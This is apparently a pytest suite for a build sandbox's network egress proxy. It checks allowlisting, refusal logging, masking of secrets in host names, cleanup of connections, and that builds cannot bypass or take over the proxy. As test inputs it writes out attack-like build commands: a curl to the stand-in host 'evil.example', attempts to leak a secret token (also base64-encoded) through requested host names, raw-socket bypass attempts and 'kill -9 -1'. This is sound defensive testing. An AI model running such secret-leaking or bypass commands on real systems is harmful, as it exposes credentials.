"""What the commands of a build reach from inside the sandbox."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import re
import shutil
from dataclasses import dataclass, field

import pytest

from hooks.builds.egress.allowlist import SETTING

PROXY = "http://127.0.0.1:3128"
needs_curl = pytest.mark.skipif(not shutil.which("curl", path="/usr/bin"), reason="no curl")


def site(command, **files):
    text = f"[build]\ncommand = '''{command}'''\noutput = \"dist\"\n"
    return {"managed.toml": text.encode(), **files}


def python(code):
    return f"/usr/bin/python3 -c '{code}'"


def allowing(*hosts, **rest):
    return {"allow": [{"host": h, "port": p, "source": SETTING} for h, p in hosts], **rest}


@pytest.fixture
async def world():
    """An HTTP server of the world outside; gives its port, and what it was asked."""
    asked = []

    async def serve(reader, writer):
        asked.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nhi there")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    yield server.sockets[0].getsockname()[1], asked
    server.close()


# A way through the proxy to a server of the tests: what goes to 127.0.0.1 is not sent to it.
CURL = "NO_PROXY= no_proxy= curl -sS --max-time 20"


@needs_curl
async def test_command_reaches_an_allowed_host_through_the_proxy_and_the_log_has_the_bytes(
    control, slot, world
):
    port, asked = world
    control.egress = allowing(("127.0.0.1/32", port))
    fetch = f"{CURL} --proxytunnel http://127.0.0.1:{port}/secret-path?token=s3cret > dist/a"
    job = await control.build(site(f"mkdir dist && {fetch}"))
    assert job.outcome["status"] == "succeeded", job.text
    assert job.outcome["settings"]["network"] == f"127.0.0.1/32:{port}"
    assert len(asked) == 1
    (line,) = job.stage("network")
    assert re.fullmatch(rf"egress: 127\.0\.0\.1:{port}: 1 connection, \d+ B up, 65 B down", line)


@needs_curl
async def test_refused_host_is_in_the_log_and_in_the_error(control, slot, world):
    control.egress = allowing(("registry.example", 443))
    job = await control.build(site("curl -sS https://evil.example/x"))
    refused = "evil.example:443 (not in builders.egress_allow)"
    assert job.stage("network") == [f"egress: refused {refused}"]
    assert any("response 403" in line for line in job.stage("build"))
    assert f"Its network: refused {refused}." in job.outcome["error"]["message"]


CANARY = "Canary_7D1f-Zq9"  # as a host is named; so is its base64, without an odd end


def asking(*hosts):
    """A command that asks the proxy for tunnels to hosts, as the shell reads their names."""
    code = (
        "import socket, sys\n"
        "for host in sys.argv[1:]:\n"
        '    s = socket.create_connection(("127.0.0.1", 3128))\n'
        '    s.send(f"CONNECT {host} HTTP/1.1\\r\\n\\r\\n".encode())\n'
        "    s.recv(4096)\n"
        "    s.close()"
    )
    return f"""python3 -c '{code}' {" ".join(f'"{host}"' for host in hosts)}"""


def declaring(command):
    text = f"[build]\ncommand = '''{command}'''\noutput = 'dist'\nvariables = ['TOKEN']\n"
    return {"managed.toml": text.encode()}


async def test_host_that_has_a_secret_in_its_name_is_shown_without(control, slot):
    """Names of hosts come in lower case to the proxy, and from programs too."""
    control.egress = allowing(("registry.example", 443))
    control.given = {"secrets": {"TOKEN": CANARY}}
    encoded = "$(printf %s $TOKEN | base64)"
    hosts = ("$TOKEN.example:443", f"{encoded}.example:443", "a.$TOKEN.example:80")
    lower = 'echo "$TOKEN" | tr A-Z a-z'
    job = await control.build(declaring(f"{lower}; {asking(*hosts, hosts[0])}; false"))
    refused = [
        f"refused {host} (not in builders.egress_allow)"
        for host in ("***.example:443", "***.example:443", "a.***.example:80")
    ]
    assert job.stage("network") == [
        *(f"egress: {each}" for each in refused),
        f"egress: {refused[0]}, 2 times in all",
    ]
    assert f"Its network: {', '.join(refused)}." in job.outcome["error"]["message"]
    assert "***" in job.stage("build"), "programs say such names so, too"
    said = (json.dumps(job.outcome) + "\n".join(job.text)).lower()
    for spelling in (CANARY, base64.b64encode(CANARY.encode()).decode()):
        assert spelling.lower() not in said


@needs_curl
async def test_address_that_is_a_secret_shows_in_no_figure_of_what_passed(control, slot, world):
    port, asked = world
    control.egress = allowing(("127.0.0.1/32", port))
    control.given = {"secrets": {"TOKEN": "127.0.0.1"}}
    fetch = f"{CURL} --proxytunnel http://$TOKEN:{port}/ > dist/a"
    job = await control.build(declaring(f"mkdir dist && {fetch}"))
    assert job.outcome["status"] == "succeeded", job.text
    assert len(asked) == 1
    (line,) = job.stage("network")
    assert line.startswith(f"egress: ***:{port}: 1 connection, ")


@needs_curl
async def test_there_is_no_way_around_the_proxy(control, slot, world):
    port, asked = world
    control.egress = allowing(("127.0.0.1/32", port))
    job = await control.build(
        site(
            f"""
            unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy
            curl -sS --max-time 5 http://127.0.0.1:{port}/ && echo OUT
            curl -sS --max-time 5 http://192.0.2.1/ && echo OUT
            curl -sS --max-time 5 "http://[2001:db8::1]/" && echo OUT
            {python('import socket; socket.socket(2, 2).connect(("192.0.2.1", 53))')} && echo OUT
            {python('import socket; socket.getaddrinfo("example.com", 443)')} && echo OUT
            ls /run; false
            """
        )
    )
    assert "OUT" not in job.stage("build")
    assert job.stage("network") == []
    assert asked == []


async def test_without_an_allowed_host_there_is_no_proxy_at_all(control, slot):
    control.egress = {}
    job = await control.build(
        site(
            "env | grep -i -E 'proxy|cert|bundle'; "
            + python('import socket; socket.create_connection(("127.0.0.1", 3128))')
        )
    )
    assert not any("=" in line for line in job.stage("build")[1:] if "Error" not in line)
    assert any("Connection refused" in line for line in job.stage("build"))


async def test_proxy_cannot_be_taken_over_or_ended_by_the_build(control, slot):
    control.egress = allowing(("registry.example", 443))
    take = 'import socket; socket.create_server(("127.0.0.1", 3128))'
    job = await control.build(site(f"ls /proc | grep -c '^[0-9]'; kill -9 -1; {python(take)}"))
    assert any("Address already in use" in line for line in job.stage("build"))


@needs_curl
async def test_two_builds_at_once_have_a_proxy_each(control, start_slot, world):
    """The same port is another one in each sandbox, with its own hosts and figures."""
    port, _ = world
    start_slot("slot-0")
    start_slot("slot-1")
    control.egress = allowing(("127.0.0.1/32", port))
    wait = "touch dist/ready; "
    fetch = f"{CURL} -p http://127.0.0.1:{port}/ -o dist/a"
    one = control.queue(site(f"mkdir dist; {wait} {fetch} && {fetch}"))
    two = control.queue(site(f"mkdir dist; {wait} {fetch}"))
    for job in (one, two):
        await asyncio.wait_for(job.finished.wait(), 30)
        assert job.outcome["status"] == "succeeded", job.text
    assert "2 connections" in one.stage("network")[0]
    assert "1 connection," in two.stage("network")[0]


@dataclass
class Patient:
    """A server of the world outside that only listens, to the end of a connection."""

    port: int = 0
    begun: asyncio.Event = field(default_factory=asyncio.Event)
    gone: asyncio.Event = field(default_factory=asyncio.Event)

    async def serve(self, reader, writer):
        self.begun.set()
        with contextlib.suppress(ConnectionError):
            await reader.read()
        self.gone.set()
        writer.close()

    @property
    def held(self):
        """A command that opens a tunnel to it and keeps that for a while."""
        return python(
            'import socket, sys, time; s = socket.create_connection(("127.0.0.1", 3128));'
            f's.send(b"CONNECT 127.0.0.1:{self.port} HTTP/1.1\\r\\n\\r\\n"); s.recv(99);'
            'print("held", flush=True); time.sleep(99)'
        )


@pytest.fixture
async def patient(control):
    patient = Patient()
    server = await asyncio.start_server(patient.serve, "127.0.0.1", 0)
    patient.port = server.sockets[0].getsockname()[1]
    control.egress = allowing(("127.0.0.1/32", patient.port))
    yield patient
    server.close()


async def test_connections_of_a_build_end_with_it(control, slot, patient):
    """Also those of a process that would outlive the command."""
    wait = "while ! grep -q held dist/a; do sleep 0.01; done"
    job = await control.build(site(f"mkdir dist; setsid {patient.held} > dist/a & {wait}"))
    assert job.outcome["status"] == "succeeded", job.text
    await asyncio.wait_for(patient.gone.wait(), 20)


async def test_killed_slot_leaves_no_connection(control, slot, patient):
    control.queue(site(patient.held))
    await asyncio.wait_for(patient.begun.wait(), 20)
    slot.process.kill()
    await asyncio.wait_for(patient.gone.wait(), 20)


# -- what the programs of a build are told --------------------------------------------------------


async def test_programs_find_the_proxy_and_the_machines_certificates(control, slot, open_dir):
    bundle = open_dir / "bundle.pem"
    bundle.write_text("the certificates\n")
    control.egress = allowing(("registry.example", 443), ca_bundle=str(bundle))
    job = await control.build(
        site('for f in "$SSL_CERT_FILE" "$PIP_CERT"; do cat $f; echo x >> $f; done; env; false')
    )
    lines = job.stage("build")
    assert lines.count("the certificates") == 2
    for name in (
        "HTTPS_PROXY",
        "https_proxy",
        "HTTP_PROXY",
        "http_proxy",
        "npm_config_https_proxy",
    ):
        assert f"{name}={PROXY}" in lines
    for name in (
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "GIT_SSL_CAINFO",
        "NODE_EXTRA_CA_CERTS",
        "npm_config_cafile",
        "COMPOSER_CAFILE",
    ):
        assert f"{name}=/run/ca-certificates.crt" in lines
    assert bundle.read_text() == "the certificates\n"


async def test_certificates_that_the_slot_may_not_read_are_said_to_be_missing(
    control, slot, tmp_path, sandbox_uid
):
    if sandbox_uid is None:
        pytest.skip("the slot may read what this user may")
    bundle = tmp_path / "bundle.pem"
    bundle.write_text("x")
    control.egress = allowing(("registry.example", 443), ca_bundle=str(bundle))
    job = await control.build(site("env; false"))
    assert job.stage("network") == [f"the machine's certificates, {bundle}, are not readable"]
    assert not any("SSL_CERT_FILE" in line for line in job.stage("build"))


async def test_build_finds_the_machines_registries_as_settings_of_its_own(control, slot):
    files = {".npmrc": "registry=https://m.example/\n", ".config/pip/pip.conf": "[global]\n"}
    control.egress = allowing(("m.example", 443), home_files=files)
    job = await control.build(site("cat ~/.npmrc ~/.config/pip/pip.conf; echo >> ~/.npmrc; false"))
    assert job.stage("build")[1:-1] == ["registry=https://m.example/", "[global]"]
